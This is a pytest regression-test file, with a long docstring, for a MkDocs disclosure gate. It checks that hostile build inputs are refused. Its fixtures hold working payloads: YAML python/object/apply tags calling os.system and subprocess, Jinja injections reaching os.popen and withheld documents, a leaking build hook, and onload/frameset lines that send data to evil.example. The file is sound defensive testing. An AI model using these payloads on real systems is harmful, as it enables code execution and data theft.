"""Round eighteen of the adversarial review (issue 24): a careless or hostile editor, a compromised department CI
job. Each test goes through the real `disclosure` command (or MkDocs build) and failed on main before its fix.

Code the gate does not review, run by the build (rules/files.py, E406) — round three refused hooks and plugins; the
same class reached the build four other ways:
- fixed: a Python tag in mkdocs.yml (`!!python/object/apply:os.system`, `/new`, `/module`, a name of any module,
  however spelt: `!<tag:…>`, a %TAG handle). MkDocs reads the file with PyYAML's unsafe loader and runs it before any
  plugin exists; the check's safe loader dropped the tag (0 errors). Now E406 in the check, and `disclosure build`
  refuses before a unit build starts. A function of pymdownx or material.extensions named or called with its options
  (Material's emoji, a slugify, a fence formatter) stays;
- fixed: a template of the theme folder. Jinja runs it with the plugin's whole state in reach (config.plugins: every
  document, withheld bodies too) and, through `__globals__`, any program; only its output was checked, never for what
  is withheld: an edited main.html published a 不予公开 body on every page, exit 0. Now a template that is not one this
  project ships (REVIEWED_THEME_TEMPLATES, by digest, as its scripts are) is E406 (check, build, platform build and
  merge), a file theme.static_templates renders too; an icon of the theme folder's .icons/ holding Jinja's marks (Material
  includes it into every page as a template; the hidden folder was never read); `extra_templates` (MkDocs renders a
  content/ file, an attachment checked as text, as a template over the checked copy);
- fixed: the check read only mkdocs.yml's own theme: a custom_dir written in the file it INHERITs was never walked
  (a list there was E111 in the build only; an unreviewed template in neither);
- fixed: a mkdocs.yml whose build runs no gate (`disclosure: {enabled: false}`, the switch for a local preview, or
  `plugins` without `disclosure`): `mkdocs build --strict` checked nothing and the check passed (0 errors); the palette's
  onload ran on every page. E406 in the check and the platform's build (exclude_docs still keeps withheld files out);
  and `atomic: false`, with which a refused build left its pages in site/ while saying 网站未更新;
- fixed: a name MkDocs takes from the environment (`hooks: [!ENV [UNSET, hooks/copy.py]]`: the default is used when the
  variable is not set): a hook, a plugin, a Markdown extension, a key, INHERIT's file, the theme, docs_dir, site_dir
  written with a tag were never read by E406 — the hook copied a 不予公开 document into site/, exit 0. And `hooks` brought
  to the top level by a merge key (`<<: *shared`) from an anchor under extra: the same.
Pages as a browser builds them (rules/rendered.py) —
- fixed: the attributes of <html> and <body> start tags (anywhere: a browser adds a second <body onload>'s to the
  page's body) and a <frameset>'s frames: the page was read as html5ever parses a fragment, which drops them.
  `theme.palette.scheme: x"onload="fetch(…)` (Material prints it unescaped; no blank is needed between attributes)
  ran on every page, `theme.direction: rtl` showed digit groups in reverse, a unit's sealed page with <body onload> or
  of frames from another host merged. E401/E404 in the build, E700 in the merge.
Tried and held (no change needed): nav, social, alternate, homepage, site_url written as javascript: (E401 in the build),
a remote favicon, logo or repo_url (E404), footnotes' BACKLINK_TITLE with a mobile (E400), `extra_javascript`/`extra_css`
naming an attachment (not a .js: E401), `custom_dir: content` (E111 for every document), a front-matter key written
twice (E102), an image or link only a withheld body names (E113), a unit id or owner with a trailing line break
(stripped), a template of the theme folder reaching a file by `..` (Jinja refuses), CSV cells starting = + - @ tab CR
(quoted), `<link rel=dns-prefetch|preconnect|prefetch|modulepreload|manifest|icon>`, speculation rules, portal,
fencedframe, `--x:url()`, a data: SVG image, SVG <use>/<image>, srcset, poster, ping, attributionsrc (all refused).
Open: a merge bomb in mkdocs.yml (`<<: [*a, *a]` twenty deep) takes the check 8–11 s (main too; MkDocs itself as long):
the readers that build mkdocs.yml's values with PyYAML work every copy out; a bound needs its own reader.
Open (for a decision): a document dated after the build date (published: 2099-03-05, a 定时发布 the editor expects) is
published at once; refusing it would refuse the example built at hashes.sh's 2025 date. The single agency's workflow builds every pull request with `mkdocs build` in parallel with the
check, and main without it: MkDocs runs a Python tag of mkdocs.yml before any plugin, so only the check (required on
the pull request) stops one there — as with E100's impossible dates. Numbers written digit by digit (1 3 8 0 0 …) or
with a doubled dash (138——0013——8000, the Chinese input method's 破折号) are not joined (by design: a row of figures).
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from .platformkit import write_platform
from .test_build_end import platform  # noqa: F401  (the fixture)
from .sitekit import _run, build, check, paired_policy, write_site

PLANTED = "planted.txt"
# MkDocs reads mkdocs.yml with PyYAML's unsafe loader: each of these runs code (or imports any module) as the
# file is read, before any plugin — the hooks round three refused (E406), written as a YAML tag instead.
PYTHON_TAGS = [
    f'!!python/object/apply:os.system ["echo x > {PLANTED}"]',
    f'!<tag:yaml.org,2002:python/object/apply:subprocess.getoutput> ["echo x > {PLANTED}"]',
    f'!!python/object/new:subprocess.Popen [["sh", "-c", "echo x > {PLANTED}"]]',
]


def _with_tag(root: Path, tag: str) -> int:
    """`site_description: <tag>` appended to mkdocs.yml; its line."""
    text = (root / "mkdocs.yml").read_text(encoding="utf-8")
    (root / "mkdocs.yml").write_text(text + f"site_description: {tag}\n", encoding="utf-8")
    return text.count("\n") + 1


def test_a_python_tag_in_mkdocs_yml_is_refused_before_it_runs(tmp_path):
    """`site_description: !!python/object/apply:os.system [...]` in mkdocs.yml: `disclosure check` read the file
    with a safe loader that drops tags, and passed it (0 errors); MkDocs' own loader runs the command as it reads
    the file, in every build of the pull request and of main — before the plugin and its checks exist. Now E406 on
    the line in the check (what the pull request runs), and `disclosure build` refuses before a unit build starts."""
    for number, tag in enumerate(PYTHON_TAGS):
        root = write_site(tmp_path / f"s{number}", paired_policy())
        line = _with_tag(root, tag)
        run = check(root)
        assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E406 ")
                                           for report in run.coded_lines()), run.output
        assert not (root / PLANTED).exists()
    platform = write_platform(tmp_path / "platform")
    line = _with_tag(platform, PYTHON_TAGS[0])
    run = _run([sys.executable, "-m", "disclosure.cli.main", "build", "--unit", "jyj", "--no-merge"], platform)
    assert run.returncode != 0 and f"mkdocs.yml:{line}: E406 " in run.output, run.output
    assert not (platform / PLANTED).exists() and not (platform / "build").exists()


LEGITIMATE_TAGS = """markdown_extensions:
  - toc:
      slugify: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
      emoji_generator: !!python/name:material.extensions.emoji.to_svg
  - pymdownx.superfences:
      custom_fences:
        - name: diagram
          class: diagram
          format: !!python/name:pymdownx.superfences.fence_code_format
"""


def test_the_python_names_material_and_pymdown_document_stay_allowed(tmp_path):
    """Material's and PyMdown's own documentation write these (emoji as inline SVG, a slug function, a fence's
    formatter): functions of the source-only packages, named or called with the options beside them."""
    root = write_site(tmp_path, paired_policy())
    with (root / "mkdocs.yml").open("a", encoding="utf-8") as config:
        config.write(LEGITIMATE_TAGS)
    assert not [line for line in check(root).coded_lines() if " E406 " in line]
    assert build(root).returncode == 0


WITHHELD_BODY = "拟对某企业处以罚款的内部处理意见全文。"
# An agency's edit of a shipped template, each a way a template reaches past what the page prints: the plugin's state
# (every document, withheld ones with their bodies), the interpreter through an object's Python attributes.
TEMPLATE_EDITS = {
    "main.html": ('{% block announce %}', '{% block announce %}{% for d in config.plugins["disclosure"].site.documents %}'
                                           '<p>{{ d.body }}</p>{% endfor %}'),
    "partials/nav.html": ('', '{{ lipsum.__globals__["os"].popen("cat content/notices/w.md").read() }}'),
}


def _withheld_with_theme(tmp_path: Path, **theme) -> Path:
    import shutil

    from .sitekit import REPO, front_matter
    files = {**paired_policy(), "notices/w.md": front_matter(WITHHELD_BODY + "\n", title="关于某企业的处理意见", type="notice",
                                                            index_no="T001/2024-00009", published="2024-03-05",
                                                            disclosure="不予公开", reason="涉及商业秘密")}
    root = write_site(tmp_path, files, mkdocs_extra={"theme": {"name": "material", "language": "zh", "font": False,
                                                               "custom_dir": "overrides", **theme}})
    shutil.copytree(REPO / "overrides", root / "overrides")
    return root


HOSTILE_ICON = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">\n<path d="M0 0h24v24H0z"/>\n'
                '<title>{% for d in config.plugins["disclosure"].site.documents %}{{ d.body }}{% endfor %}</title></svg>\n')
PLAIN_ICON = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>\n'
STATIC_TEMPLATE = "assets/stylesheets/print.css"


def _theme_with_icon(tmp_path: Path, svg: str, **theme) -> Path:
    """`_withheld_with_theme` whose theme's logo is the icon `svg` of the theme folder's .icons/."""
    root = _withheld_with_theme(tmp_path, icon={"logo": "agency/logo"}, **theme)
    (root / "overrides/.icons/agency").mkdir(parents=True)
    (root / "overrides/.icons/agency/logo.svg").write_text(svg, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def unreviewed_theme(tmp_path_factory):
    """One site whose theme folder holds every unreviewed file of the two tests below, each at its own path (the edited
    templates of TEMPLATE_EDITS, a style sheet theme.static_templates renders, the hostile icon): checked once and built
    once; the withheld body must reach no file of the site."""
    root = _theme_with_icon(tmp_path_factory.mktemp("unreviewed-theme"), HOSTILE_ICON, static_templates=[STATIC_TEMPLATE])
    for name, (old, new) in TEMPLATE_EDITS.items():
        template = root / "overrides" / name
        template.write_text(template.read_text(encoding="utf-8").replace(old, new, 1) if old else new
                            + template.read_text(encoding="utf-8"), encoding="utf-8")
    (root / "overrides" / STATIC_TEMPLATE).write_text(
        "{% for d in config.plugins['disclosure'].site.documents %}{{ d.body }}{% endfor %}\n", encoding="utf-8")
    return root, check(root), build(root)


def _refused_in_the_theme(unreviewed_theme, where: str, *runs) -> None:
    """Each of `runs` failed with E406 on the line `where` (the file's own), no traceback; nothing withheld published."""
    from .leakkit import leaks
    root = unreviewed_theme[0]
    for run in runs:
        assert run.returncode != 0 and "Traceback" not in run.output, run.output
        assert any(report.startswith(f"{where}: E406 ") for report in run.coded_lines()), run.output
    assert not (root / "site").exists() or not leaks(root / "site", [WITHHELD_BODY])


@pytest.mark.parametrize("name", TEMPLATE_EDITS)
def test_a_theme_template_the_gate_has_not_reviewed_is_refused(unreviewed_theme, name):
    """A template of the theme folder is code the build runs: an agency's edit of main.html printing every document's
    body (config.plugins reaches the plugin's state, withheld documents included) published a 不予公开 body on every
    page with exit 0, the check passing; through `__globals__` a template runs any program. Only the output was
    checked, for personal data and markup, never for what the gate withholds. Now a template that is not one this
    project ships (reviewed, by digest) is E406 naming it, in the check and before the build renders anything."""
    _refused_in_the_theme(unreviewed_theme, f"overrides/{name}:1", *unreviewed_theme[1:])


def test_a_file_static_templates_renders_is_refused_as_a_template(unreviewed_theme):
    """A file theme.static_templates has MkDocs render as a template, whatever its name, too."""
    _refused_in_the_theme(unreviewed_theme, f"overrides/{STATIC_TEMPLATE}:1", unreviewed_theme[1])


def test_the_projects_own_theme_templates_are_the_reviewed_ones(tmp_path):
    """A change to a template this project ships is reviewed again: its digest goes into REVIEWED_THEME_TEMPLATES. The
    shipped folder, copied whole, builds."""
    import hashlib

    from disclosure.rules.files import REVIEWED_THEME_TEMPLATES

    from .sitekit import REPO
    unreviewed = {path.relative_to(REPO).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
                  for path in sorted((REPO / "overrides").rglob("*"))
                  if path.suffix in (".html", ".xml", ".txt") and hashlib.sha256(path.read_bytes()).hexdigest()
                  not in REVIEWED_THEME_TEMPLATES}
    assert unreviewed == {}, f"review these templates, then list their digests in rules/files.py: {unreviewed}"
    root = _withheld_with_theme(tmp_path)
    assert build(root).returncode == 0


def test_a_theme_folder_named_in_the_inherited_file_is_checked(tmp_path):
    """`INHERIT: base.yml` with the theme (its custom_dir) written only there: MkDocs uses it, and copies its files;
    the check read mkdocs.yml's own theme only and passed an unreviewed template and a list saved in the theme folder
    (the build saw the list, not the template). Now both read the theme as MkDocs does."""
    import shutil

    import yaml

    from .sitekit import REPO
    root = _withheld_with_theme(tmp_path)
    config = yaml.safe_load((root / "mkdocs.yml").read_text(encoding="utf-8"))
    theme = config.pop("theme")
    (root / "base.yml").write_text(yaml.safe_dump({"theme": {**theme, "custom_dir": "ov"}}, allow_unicode=True), encoding="utf-8")
    (root / "mkdocs.yml").write_text(yaml.safe_dump({**config, "INHERIT": "base.yml"}, allow_unicode=True), encoding="utf-8")
    shutil.move(root / "overrides", root / "ov")
    old, new = TEMPLATE_EDITS["main.html"]
    main = root / "ov/main.html"
    main.write_text(main.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    (root / "ov/名单.xlsx").write_bytes((REPO / "README.md").read_bytes())
    run = check(root)
    assert {"ov/main.html:1: E406", "ov/名单.xlsx:1: E111"} <= {" ".join(line.split()[:2]) for line in run.coded_lines()}, run.output
    run = build(root)
    assert run.returncode != 0 and any(line.startswith("ov/main.html:1: E406 ") for line in run.coded_lines()), run.output


def test_a_content_file_mkdocs_renders_as_a_template_is_refused(tmp_path):
    """`extra_templates: [notices/files/说明.txt]` in mkdocs.yml: MkDocs renders that file of content/ (an attachment,
    checked as text) as a Jinja template and writes the result over the checked copy. The attachment printed every
    document's body (a 不予公开 one too) and ran `id`, exit 0, the check passing. Now E406 on the line."""
    from .leakkit import leaks
    from .sitekit import front_matter
    files = {**paired_policy(),
             "notices/w.md": front_matter(WITHHELD_BODY + "\n", title="关于某企业的处理意见", type="notice",
                                          index_no="T001/2024-00009", published="2024-03-05", disclosure="不予公开",
                                          reason="涉及商业秘密"),
             "notices/n.md": front_matter("通知正文。\n", title="关于某事的通知", type="notice", index_no="T001/2024-00010",
                                          published="2024-03-05", attachments=[{"title": "说明", "file": "files/说明.txt"}]),
             "notices/files/说明.txt": "说明：{% for d in config.plugins['disclosure'].site.documents %}{{ d.body }}{% endfor %}\n"}
    root = write_site(tmp_path, files, mkdocs_extra={"extra_templates": ["notices/files/说明.txt"]})
    line = next(number for number, text in enumerate((root / "mkdocs.yml").read_text(encoding="utf-8").split("\n"), start=1)
                if "说明.txt" in text)
    for run in (check(root), build(root)):
        assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E406 ")
                                           for report in run.coded_lines()), run.output
    assert not (root / "site").exists() or not leaks(root / "site", [WITHHELD_BODY])


# What Material prints, unescaped, into the <body> and <html> tags from mkdocs.yml: the palette as attributes, the
# direction as dir. A quote ends the attribute and another begins (no blank needed: the HTML standard reads on).
DOCUMENT_TAG_SETTINGS = {
    "scheme": ('x"onload="fetch(`//evil.example/`+location)', "事件属性 onload（<body>）"),
    "primary": ('y"style="display:none', "style="),
    "direction": ("rtl", 'dir="rtl"'),
}


def test_what_the_theme_prints_into_the_body_tag_is_checked(tmp_path):
    """`theme.palette.scheme: x"onload="fetch(…)"` became `<body … data-md-color-scheme="x"onload="fetch(…)">`: a
    script on every page, exit 0 (the page frame was checked as html5ever parses a fragment, which drops the <html>
    and <body> tags with their attributes); `theme.direction: rtl` showed each paragraph of digit groups in reverse
    (`8000 0013 138` read 138 0013 8000), what a page's own dir="rtl" is refused for. Now E401 on the line."""
    for name, (value, what) in DOCUMENT_TAG_SETTINGS.items():
        theme = {"name": "material", "language": "zh", "font": False, "features": ["navigation.indexes"],
                 "custom_dir": str(Path(__file__).resolve().parent.parent / "overrides")}
        theme.update({"direction": value} if name == "direction" else {"palette": {name: value}})
        root = write_site(tmp_path / name, paired_policy(), mkdocs_extra={"theme": theme})
        line = next(number for number, text in enumerate((root / "mkdocs.yml").read_text(encoding="utf-8").split("\n"),
                                                         start=1) if f"{name}:" in text)
        run = build(root)
        assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E401 ") and what in report
                                           for report in run.coded_lines()), run.output
        assert not (root / "site").exists()


def test_a_unit_page_whose_body_tag_runs_a_script_is_refused(platform):
    """The compromised job's side: a page of its own output (listed and sealed) whose <body> (or a second <body> tag
    further down, whose attributes a browser adds to the page's body) runs a script on loading, or a page of frames
    (no <body>: the browser shows another host's page in its place). The merge read the page as a fragment, without
    these tags, and merged it."""
    from disclosure.platform.unit_manifest import seal_unit_manifest

    from .test_merge_verifies import refused
    page = platform / "build/units/jyj/jyj/guide/guide/index.html"
    text = page.read_text(encoding="utf-8")
    frames = '<!doctype html><html><head><title>教育局指南</title></head><frameset><frame src="https://evil.example/"></frameset></html>'
    for hostile in (text.replace("</body>", '<body onload="fetch(\'//evil.example/\'+location)"></body>', 1), frames):
        page.write_text(hostile, encoding="utf-8")
        seal_unit_manifest(platform / "build/units/jyj", "jyj")
        refused(platform, "build/units/jyj/jyj/guide/guide/index.html:1: E700 ")


def test_a_theme_icon_holding_template_marks_is_refused(unreviewed_theme, tmp_path):
    """Material includes `theme.icon.logo: agency/logo` from the theme folder's .icons/ (a hidden folder MkDocs does not
    copy, so no check read it) into every page as a Jinja template: an SVG whose <title> held a loop over the plugin's
    documents printed a 不予公开 body on every page, exit 0. Now E406 on the icon's line; a plain SVG logo builds."""
    _refused_in_the_theme(unreviewed_theme, "overrides/.icons/agency/logo.svg:3", *unreviewed_theme[1:])
    root = _theme_with_icon(tmp_path / "plain", PLAIN_ICON)
    checked, built = check(root), build(root)
    assert built.returncode == 0 and not [line for line in checked.coded_lines() if " E406 " in line], built.output


HOOK = 'import shutil\n\n\ndef on_post_build(config):\n    shutil.copy("content/notices/w.md", config["site_dir"] + "/w.txt")\n'
# Names MkDocs takes from the environment, with a default it uses when the variable is not set (none is, here).
FROM_ENVIRONMENT = {
    "hook": "hooks:\n  - !ENV [NOT_SET_ANYWHERE, hooks/copy.py]\n",
    "hooks": "hooks: !ENV [NOT_SET_ANYWHERE, [hooks/copy.py]]\n",
    "key": "? !ENV [NOT_SET_ANYWHERE, hooks]\n: [hooks/copy.py]\n",
    "inherit": "INHERIT: !ENV [NOT_SET_ANYWHERE, base.yml]\n",
    "extension": "markdown_extensions:\n  - !ENV [NOT_SET_ANYWHERE, pymdownx.snippets]:\n      auto_append: [content/notices/w.md]\n",
    # Not the environment: a merge key bringing `hooks` in from an anchor, which MkDocs' loader works out too.
    "merge": "extra:\n  shared: &shared\n    hooks: [hooks/copy.py]\n<<: *shared\n",
}
TAGGED_LINE = {"hook": 1, "extension": 1, "merge": 2}   # the refused node's line after the first line appended


def test_a_name_mkdocs_takes_from_the_environment_is_refused(tmp_path):
    """`hooks: [!ENV [UNSET, hooks/copy.py]]`: MkDocs uses the default when the variable is not set, and the hook
    copied a 不予公开 document into site/ with exit 0; E406 read only names written as text and passed it. The same for a
    list, a key, INHERIT's file (its hooks, tags and theme unread) and a Markdown extension; and hooks brought in by a
    merge key (`<<: *shared`) from an anchor under extra. Now E406 on the line."""
    from .leakkit import leaks
    from .sitekit import front_matter
    for case, setting in FROM_ENVIRONMENT.items():
        files = {**paired_policy(), "notices/w.md": front_matter(WITHHELD_BODY + "\n", title="关于某企业的处理意见",
                                                                type="notice", index_no="T001/2024-00009",
                                                                published="2024-03-05", disclosure="不予公开",
                                                                reason="涉及商业秘密")}
        root = write_site(tmp_path / case, files)
        (root / "hooks").mkdir()
        (root / "hooks/copy.py").write_text(HOOK, encoding="utf-8")
        (root / "base.yml").write_text("hooks:\n  - hooks/copy.py\n", encoding="utf-8")
        text = (root / "mkdocs.yml").read_text(encoding="utf-8")
        (root / "mkdocs.yml").write_text(text + setting, encoding="utf-8")
        line = text.count("\n") + 1 + TAGGED_LINE.get(case, 0)
        for run in (check(root), build(root)):
            assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E406 ")
                                               for report in run.coded_lines()), (case, run.output)
        assert not (root / "site").exists() or not leaks(root / "site", [WITHHELD_BODY]), case


def test_a_site_whose_build_would_not_run_the_gate_is_refused_by_the_check(tmp_path):
    """`disclosure: {enabled: false}` (the switch for a local preview) committed in mkdocs.yml, or a `plugins` list
    without `disclosure`: `mkdocs build --strict` checks nothing, and the check — which reads the sources, not what the
    theme prints — passed with 0 errors; the palette's `x"onload="fetch(…)` ran on every page of the built site. Only
    exclude_docs kept withheld files out (tests/test_closed_gate.py). Now E406 on the line in the check (the pull
    request's) and the platform's build."""
    theme = {"name": "material", "language": "zh", "font": False, "features": ["navigation.indexes"],
             "palette": {"scheme": DOCUMENT_TAG_SETTINGS["scheme"][0]}}
    for case, plugins in (("disabled", ["search", {"disclosure": {"enabled": False}}]), ("missing", ["search"])):
        root = write_site(tmp_path / case, paired_policy(), mkdocs_extra={"plugins": plugins, "theme": theme})
        lines = (root / "mkdocs.yml").read_text(encoding="utf-8").split("\n")
        line = next(number for number, text in enumerate(lines, start=1)
                    if text.strip().startswith("enabled:" if case == "disabled" else "plugins:"))
        run = check(root)
        assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E406 ")
                                           for report in run.coded_lines()), (case, run.output)
    # `atomic: false`: the build wrote into site/ directly, and a refused build left its pages there (the palette's
    # onload in each), saying 网站未更新. Now refused before anything is written.
    root = write_site(tmp_path / "atomic", paired_policy(), mkdocs_extra={
        "plugins": [{"disclosure": {"atomic": False}}], "theme": {**theme, "custom_dir": str(Path(__file__).resolve().parent.parent / "overrides")}})
    line = next(number for number, text in enumerate((root / "mkdocs.yml").read_text(encoding="utf-8").split("\n"), start=1)
                if text.strip().startswith("atomic:"))
    for run in (check(root), build(root)):
        assert run.returncode != 0 and any(report.startswith(f"mkdocs.yml:{line}: E406 ") for report in run.coded_lines()), run.output
    assert not (root / "site").exists()
    platform = write_platform(tmp_path / "platform")
    text = (platform / "mkdocs.yml").read_text(encoding="utf-8")
    (platform / "mkdocs.yml").write_text(text.replace("- disclosure\n", "- disclosure:\n    enabled: false\n"), encoding="utf-8")
    run = _run([sys.executable, "-m", "disclosure.cli.main", "build", "--unit", "jyj", "--no-merge"], platform)
    assert run.returncode != 0 and " E406 " in run.output and not (platform / "build").exists(), run.output
